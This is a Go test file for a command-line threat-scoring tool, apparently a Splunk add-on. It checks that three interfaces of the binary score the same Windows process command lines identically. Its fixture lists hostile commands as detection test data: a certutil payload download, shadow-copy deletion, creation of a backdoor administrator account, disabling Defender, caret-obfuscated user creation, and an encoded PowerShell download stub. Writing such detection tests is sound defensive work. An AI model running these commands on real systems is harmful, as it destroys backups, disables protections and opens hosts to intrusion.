package cli

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// facesCmdlines mixes model hits, rule hits, parents and plain lines.
var facesCmdlines = []struct{ cmd, parent string }{
	{psLine, `C:\Windows\explorer.exe`},
	{"cmd.exe /c certutil -urlcache -split -f http://127.0.0.1:8080/x.exe x.exe", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
	{"vssadmin delete shadows /all /quiet", `C:\Windows\System32\cmd.exe`},
	{"net user backdoor P@ss /add & net localgroup administrators backdoor /add", `C:\Windows\System32\wscript.exe`},
	{"notepad.exe C:\\notes.txt", `C:\Windows\explorer.exe`},
	{"powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true; [System.Text.Encoding]::UTF8\"", "mshta.exe"},
	{`c^m^d /c "set a=net u&& set b=ser bob pw /a&& call %a%%b%dd"`, `C:\Windows\explorer.exe`},
	{"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", `C:\Windows\System32\cmd.exe`},
}

// scoringFields are the outputs every face must agree on.
var scoringFields = []string{"score", "model_alert", "rule_hits", "rule_count", "rule_level", "mitre_technique_id", "certutil_abuse",
	"scheduled_task", "user_creation", "shadow_delete", "suspicious_parent", "obfuscation", "risk_score"}

// TestFacesAgree scores the same command lines through the three faces of
// the binary (search command, `score`, modular input) and requires the same
// scoring fields from each.
func TestFacesAgree(t *testing.T) {
	facesAgree(t, facesCmdlines)
}

// TestFacesAgreeTrainingRows does the same with rows the shipped cmdline
// model was trained on: the first rows of every dev corpus file, so the
// faces agree on the model's own training data.
func TestFacesAgreeTrainingRows(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("..", "..", "..", "shared", "corpus", "dev", "*.jsonl"))
	if len(files) == 0 {
		t.Skip("../shared/corpus/dev not present: no training rows to score")
	}
	var rows []struct{ cmd, parent string }
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.SplitN(string(data), "\n", 13)[:12] {
			var r struct {
				Cmdline     string `json:"cmdline"`
				ParentImage string `json:"parent_image"`
			}
			if json.Unmarshal([]byte(line), &r) == nil && r.Cmdline != "" {
				rows = append(rows, struct{ cmd, parent string }{r.Cmdline, r.ParentImage})
			}
		}
	}
	facesAgree(t, rows)
}

func facesAgree(t *testing.T, cmdlines []struct{ cmd, parent string }) {
	dir := t.TempDir()
	var jsonl bytes.Buffer
	body := "process,parent_process_name\n"
	for i, c := range cmdlines {
		rec, _ := json.Marshal(map[string]any{
			"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "ws1", "User": `LAB\bob`,
			"UtcTime": fmt.Sprintf("2024-05-01 10:00:%02d.000", i), "ProcessId": fmt.Sprint(1000 + i),
			"Image": `C:\Windows\System32\x.exe`, "CommandLine": c.cmd, "ParentImage": c.parent,
		})
		jsonl.Write(append(rec, '\n'))
		parent := ""
		if c.parent != "" {
			parent = filepath.Base(strings.ReplaceAll(c.parent, `\`, "/"))
		}
		body += csvQuote(c.cmd) + "," + csvQuote(parent) + "\n"
	}
	file := filepath.Join(dir, "sysmon.jsonl")
	if err := os.WriteFile(file, jsonl.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	// Search command.
	out, stderr, code := run(t, []byte(getinfo()+execute(true, body)))
	if code != 0 {
		t.Fatalf("search: exit %d: %s", code, stderr)
	}
	search := parseReplies(t, out)[1].rows

	// Command line tool.
	out, stderr, code = run(t, nil, "score", "--format", "json", "--field", "CommandLine", "--parent-field", "ParentImage", file)
	if code != 0 {
		t.Fatalf("score: exit %d: %s", code, stderr)
	}
	var tool []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		dec := json.NewDecoder(strings.NewReader(line))
		dec.UseNumber()
		var m map[string]any
		if err := dec.Decode(&m); err != nil {
			t.Fatal(err)
		}
		tool = append(tool, m)
	}

	// Modular input.
	modin := runModinput(t, dir, file, len(cmdlines))

	if len(search) != len(cmdlines) || len(tool) != len(cmdlines) {
		t.Fatalf("rows: search %d, score %d", len(search), len(tool))
	}
	for i := range cmdlines {
		for _, f := range scoringFields {
			s, c, m := search[i][f], flat(tool[i][f]), flat(modin[i][f])
			if s != c || s != m {
				t.Errorf("line %d field %s: search %q, score %q, modular input %q", i, f, s, c, m)
			}
		}
	}
}

// flat renders a JSON value the way the search command writes the field:
// numbers as written, arrays joined with newlines.
func flat(v any) string {
	switch v := v.(type) {
	case nil:
		return ""
	case []any:
		var parts []string
		for _, p := range v {
			parts = append(parts, fmt.Sprint(p))
		}
		return strings.Join(parts, "\n")
	case json.Number:
		return v.String()
	}
	return fmt.Sprint(v)
}

// runModinput runs the binary as the modular input over file until it has
// written want events, then stops it with SIGTERM as splunkd does.
func runModinput(t *testing.T, dir, file string, want int) []map[string]any {
	t.Helper()
	input := fmt.Sprintf(`<input><server_host>h</server_host><server_uri>https://127.0.0.1:8089</server_uri>
<session_key>k</session_key><checkpoint_dir>%s</checkpoint_dir><configuration>
<stanza name="scorecmdline://faces" app="SA-scorecmdline"><param name="path">%s</param>
<param name="format">jsonl</param><param name="emit">all</param><param name="poll_interval">0.1</param>
</stanza></configuration></input>`, filepath.Join(dir, "ckpt"), file)
	cmd := exec.Command(binPath)
	cmd.Stdin = strings.NewReader(input)
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var out syncBuffer
	done := make(chan error, 1)
	go func() { _, err := io.Copy(&out, stdout); done <- err }()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) && bytes.Count(out.Bytes(), []byte("</event>")) < want {
		time.Sleep(50 * time.Millisecond)
	}
	cmd.Process.Signal(syscall.SIGTERM)
	<-done
	if err := cmd.Wait(); err != nil {
		t.Fatalf("modular input: %v\n%s", err, stderr.Bytes())
	}
	var stream struct {
		Events []struct {
			Data string `xml:"data"`
		} `xml:"event"`
	}
	if err := xml.Unmarshal(out.Bytes(), &stream); err != nil {
		t.Fatalf("modular input output is not XML: %v\n%s", err, out.Bytes())
	}
	var recs []map[string]any
	for _, e := range stream.Events {
		dec := json.NewDecoder(strings.NewReader(e.Data))
		dec.UseNumber()
		var m map[string]any
		if err := dec.Decode(&m); err != nil {
			t.Fatal(err)
		}
		recs = append(recs, m)
	}
	if len(recs) != want {
		t.Fatalf("modular input wrote %d events, want %d\n%s", len(recs), want, stderr.Bytes())
	}
	return recs
}

// syncBuffer is a bytes.Buffer one goroutine writes while another reads.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

// Bytes returns a copy of what was written so far.
func (b *syncBuffer) Bytes() []byte {
	b.mu.Lock()
	defer b.mu.Unlock()
	return bytes.Clone(b.buf.Bytes())
}
